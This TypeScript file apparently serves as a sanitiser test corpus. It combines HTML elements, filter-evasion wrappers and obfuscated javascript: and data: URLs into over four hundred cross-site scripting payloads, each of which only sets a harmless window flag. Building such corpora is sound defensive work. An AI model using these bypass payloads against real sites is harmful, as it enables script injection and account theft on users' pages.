/** The code of a payload: it sets a mark on the window. */
const RUN = "top.ran=1";

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<base href="javascript:${RUN}//"><a href="x">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div style="background:url(javascript:${RUN})" onmouseover=${RUN}>x</div>`,
  `<button onclick=${RUN} autofocus>x</button>`,
];

/** Ways to hide an element from a filter, or to end the text or attribute that contains it. */
const WRAPPINGS: ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'/>${element}`,
  (element) => `</textarea></title></style></option>${element}`,
  (element) => `<!--<${element}-->${element}`,
  (element) => element.replace(/<(\w)(\w*)/g, (_, first, rest) => `<${String(first).toUpperCase()}${rest}`),
  (element) => `\`\`\`html\n${element}\n\`\`\`\n${element}`,
  (element) => `[x](y "${element.replaceAll('"', "'")}")`,
  (element) => `| ${element.replaceAll("|", "")} |\n| --- |\n| ${element} |`,
  (element) => `> 1. **${element}** ${element.replaceAll("<", "&lt;")}`,
  (element) => element.replaceAll(" on", "\t\fon").replaceAll("<", "\u0000<"),
  (element) => `![${element}](x "onerror=${RUN}")`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#115;cript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=`,
  `blob:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `//javascript:${RUN}`,
  `x:javascript:${RUN}`,
];

const LINKS: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![x](${address})`,
  (address) => `[x]: ${address}\n\n[x]`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x](${encodeURI(address)})`,
  (address) => `[a](https://example.org "x" onclick="${address}")`,
];

const pairs = <A>(ways: readonly ((value: A) => string)[], values: readonly A[]): string[] =>
  ways.flatMap((way) => values.map((value) => way(value)));

/** More than four hundred ways to make a text run as a script. */
export const SCRIPT_PAYLOADS: readonly string[] = [...pairs(WRAPPINGS, ELEMENTS), ...pairs(LINKS, ADDRESSES)];
